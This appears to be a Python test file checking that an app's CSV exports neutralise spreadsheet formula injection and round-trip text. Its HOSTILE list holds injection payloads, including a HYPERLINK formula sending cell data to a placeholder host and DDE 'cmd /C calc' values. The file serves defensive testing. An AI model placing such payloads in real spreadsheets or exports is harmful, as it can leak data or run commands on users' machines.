"""CSV injection: every text cell the app writes is inert in a spreadsheet, and reads back."""

from __future__ import annotations

import csv
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from sim_facilitator.domain.actions import create_action
from sim_facilitator.domain.csv_import import read_table
from sim_facilitator.domain.demo import create_demo
from sim_facilitator.domain.ideas import add_idea
from sim_facilitator.domain.organise.clusters import create_cluster
from sim_facilitator.engine.store import Store
from sim_facilitator.export.open_data import _csv_bytes, export_open_data
from sim_facilitator.text.spreadsheet_cells import is_inert, neutralise, restore
from sim_facilitator.text.user_text import clean_text

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''@twice",
]


def test_formulas_are_neutralised_and_numbers_kept() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("-3") == "-3"  # a real number stays a number
    assert neutralise("+2.5") == "+2.5"
    assert neutralise("تمويل = دعم") == "تمويل = دعم"  # only a leading trigger matters
    assert neutralise("'hello") == "'hello"
    assert neutralise("'=x") == "''=x"  # so that restore gives "'=x" back


@given(st.text(alphabet=st.sampled_from(list("=+-@'\t\r 0123456789.,aبc")), max_size=12))
def test_every_text_round_trips_and_is_inert(text: str) -> None:
    cell = neutralise(text)
    assert restore(cell) == text
    assert is_inert(cell)


def test_open_data_cells_are_all_inert(store: Store, tmp_path: Path) -> None:
    wid = create_demo(store)
    for text in HOSTILE:
        add_idea(store, wid, text)
    create_cluster(store, wid, "=cmd|' /C calc'!A0")
    create_action(store, wid, "@SUM(1,1)", owner="+212 600 000 000")
    files = export_open_data(store, tmp_path / "out", lang="fr")
    cells = []
    for path in files:
        with open(path, encoding="utf-8-sig", newline="") as fh:
            cells += [c for row in csv.reader(fh) for c in row]
    assert all(is_inert(c) for c in cells), [c for c in cells if not is_inert(c)]
    # What a person reads is the text with an apostrophe in front, nothing else changed.
    with open(tmp_path / "out" / "ideas.csv", encoding="utf-8-sig", newline="") as fh:
        texts = {restore(r["text"]) for r in csv.DictReader(fh)}
    assert {clean_text(h) for h in HOSTILE} <= texts  # stored as typed, trimmed
    with open(tmp_path / "out" / "actions.csv", encoding="utf-8-sig", newline="") as fh:
        assert "'@SUM(1,1)" in fh.read()


def test_the_apps_own_csv_reader_reads_back_what_it_wrote() -> None:
    names = ["=Samira", "-Youssef-", "'@Laila", "Hind", "+212"]
    data = _csv_bytes(["name"], [[n] for n in names])
    table = read_table(data)
    assert [row[0] for row in table.rows] == names
